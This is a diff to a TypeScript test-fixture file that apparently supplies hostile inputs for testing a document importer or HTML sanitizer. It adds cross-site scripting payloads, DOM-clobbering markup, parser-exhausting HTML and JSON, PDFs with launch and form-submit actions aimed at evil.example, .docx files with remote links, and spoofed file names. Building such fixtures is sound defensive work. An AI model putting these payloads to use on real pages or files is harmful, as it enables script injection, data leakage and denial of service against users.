@@ -3,7 +3,7 @@
  * change what all objects inherit, or to keep the page busy for ever.
  */
 import { deflateRawSync } from "node:zlib";
-import { bomb, docx, pdf, pdfOf, wordOf } from "./documents.ts";
+import { bomb, docx, paragraph, pdf, pdfOf, wordOf } from "./documents.ts";
 import { invented } from "./texts.ts";
 
 const evil = "https://evil.example";
@@ -52,7 +52,33 @@ export const markup: Record<string, string> = {
   "null bytes": `<scr\0ipt>${run}</scr\0ipt><img src=x on\0error=${run}>`,
   "seven bits": `<meta charset="utf-7">+ADw-script+AD4-${run}+ADw-/script+AD4-`,
   "entities that multiply": `<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c SYSTEM "${evil}/x">]><p>&b;&c;</p>`,
+  "names that hide a form's own": `<form>${["firstChild", "nextSibling", "nextElementSibling", "firstElementChild", "parentNode", "childNodes", "children", "attributes", "getAttribute", "remove", "nodeName"].map((name) => `<input name="${name}"><img id="${name}">`).join("")}<p>In a form</p></form>`,
+  "names that hide a page's own": ["createTreeWalker", "createElement", "querySelectorAll", "getElementsByTagName", "head", "title", "implementation", "importNode", "documentURI", "baseURI", "firstChild"].map((name) => `<img name="${name}"><form name="${name}"></form><embed name="${name}">`).join(""),
+  "another page, from a drawing": `<svg><meta http-equiv="refresh" content="0; url=${evil}/"></svg><math><base href="${evil}/"></math>`,
+  "drawing with another's markup": `<svg><foreignObject><iframe src="javascript:top.${run}"></iframe><img src="${evil}/x.png" onerror="${run}"></foreignObject><style>@import "${evil}/x.css"</style></svg>`,
+  "drawing in which text is code": `<svg><![CDATA[><img src=x onerror=${run}>]]></svg><math><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></math>`,
+  "template in a drawing": `<svg><template><img src=x onerror=${run}></template></svg><div><template shadowrootmode="closed" shadowrootclonable><script>${run}</script></template></div>`,
+  "end of a title in a title": `<title><img src=x></title><img src=x onerror=${run}></title>`,
+  "data about a page that ends its script": `<script type="application/ld+json">{"@context":"https://schema.org","@type":"NewsArticle","headline":"<!--<script>","author":{"__proto__":{"polluted":1}}}</script><img src=x onerror=${run}></script>`,
+  "quotation marks in a tag": `<p a"b='><img src=x onerror=${run}>' c=" d>x</p><p title='"' x="'"><img src=x onerror=${run} alt="'>">`,
+  "moved by a table": `<table><tr><td><form><input name=a onfocus="${run}" autofocus></td><img src=x onerror=${run}></tr><caption><svg onload=${run}></svg></caption></table>`,
+  "scripts that come late": `<link rel="modulepreload" href="${evil}/m.js"><script type="importmap">{"imports":{"x":"${evil}/x.js"}}</script><script type="speculationrules">{"prefetch":[{"urls":["${evil}/y"]}]}</script>`,
   "own elements": `<x-a is="x-b" onclick="${run}"></x-a><dialog open oncancel="${run}"></dialog><p popover onbeforetoggle="${run}">x</p>`,
+};
+
+/** Pages that are small, and made to keep whoever reads them busy for hours: most cost a browser the square of what they nest. */
+export const endless: Record<string, string> = {
+  "tags in tags": `${"<div>".repeat(500_000)}<p>${invented(2)}</p>${"<b><i>".repeat(250_000)}`,
+  "ends in comments": "<div><!--</div>-->".repeat(300_000),
+  "ends in values": `<div title="</div>">`.repeat(300_000),
+  "ends in scripts": "<div><script></div></script>".repeat(300_000),
+  "ends that reach nothing": `${"<div>".repeat(400)}<object>${"</div>".repeat(400)}`.repeat(500),
+  "items in items": "<li><dd>".repeat(300_000),
+  "small letters in small letters": "<rt>".repeat(500_000),
+  "letters that begin again in each block": `${Array.from({ length: 2500 }, (_, n) => `<b id="${n}">`).join("")}${"<div>x</div><p>y".repeat(100_000)}`,
+  "values without an end": `<p style="${"display:none ".repeat(100_000)}>`,
+  "each sign that there is": `${Array.from({ length: 65_536 }, (_, n) => String.fromCharCode(n)).join("")}<p onload=x>`,
+  "forms that go round in circles": `<form><input name="nextSibling"><input name="nextElementSibling"><p>${invented(3)}</p></form>`,
 };
 
 /** Plain texts. */
@@ -90,6 +116,9 @@ const works: Record<string, unknown> = {
   "another version": { v: "1", articles: [article] },
   "a list": [1, 2, 3],
   "nested without end": deep("[", "]", 100_000),
+  "more than anyone reads": { v: 1, articles: Array.from({ length: 100_000 }, () => article) },
+  "nested in an article": `{"v":1,"articles":[{"text":"x","outside":${deep("[", "]", 100_000)}}]}`,
+  "half a character": { v: 1, articles: [{ text: "\ud800 ".repeat(300), title: "\udc00", address: "https://evil.example/\ud800" }] },
   "unpacks without end": `{"v":1,"x":"${" ".repeat(20_000_000)}"}`,
 };
 
@@ -112,7 +141,13 @@ export const readable = [
   file(`<img src=x onerror=${run}>.txt`, invented(2)),
   file("\u202etxt.exe.md", `${invented(3)}\n![x](${evil}/x.png)`),
   file("declared.html", `<?xml version="1.0"?><!DOCTYPE html SYSTEM "${evil}/x.dtd"><html><head><meta charset="utf-7"><script>${run}</script></head><body onload="${run}"><p>${invented(4)}</p></body></html>`),
+  file("launch.pdf", pdf([invented(7)], `/OpenAction << /S /Launch /F (calc.exe) /Next << /S /URI /URI (${evil}/) /Next << /S /SubmitForm /F (${evil}/) >> >> >> /Names << /JavaScript << /Names [(a) ${action}] >> >> /AcroForm << /XFA (<script>${run}</script>) /Fields [] >>`)),
+  file("line\nbreak\u2028.txt", invented(8)),
   file("action.pdf", pdf([invented(5)], `/OpenAction ${action} /AA << /WC ${action} >> /URI << /Base (${evil}/) >>`)),
+  file("style.docx", wordOf(paragraph(invented(9)), "", { "mammoth/style-map": `p => form > input[name='nextSibling'] > script:fresh` })),
+  file("elsewhere.docx", wordOf(`${paragraph(invented(10))}<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip r:link="rId7"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`, "", {
+    "word/_rels/document.xml.rels": `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId7" TargetMode="External" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="${evil}/x.png"/></Relationships>`,
+  })),
   file("links.docx", docx([`${invented(6)} &lt;script&gt;${run}&lt;/script&gt; HYPERLINK "javascript:${run}"`])),
 ];
 
@@ -121,6 +156,8 @@ export const unreadable = [
   file("bomb.docx", bomb()),
   file("entities.docx", wordOf("<w:p><w:r><w:t>&m;&z;</w:t></w:r></w:p>", entities)),
   file("deep.docx", wordOf(deep("<w:p>", "</w:p>", 50_000))),
+  file("\u202efdp.exe", "x"),
+  file("name\nof two lines.exe", "x"),
   file("__proto__.docx", "PK\x03\x04__proto__"),
   file("loop.pdf", pdfOf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 1000000000 >>"])),
   file("half.pdf", pdf([invented(1)]).subarray(0, 300)),
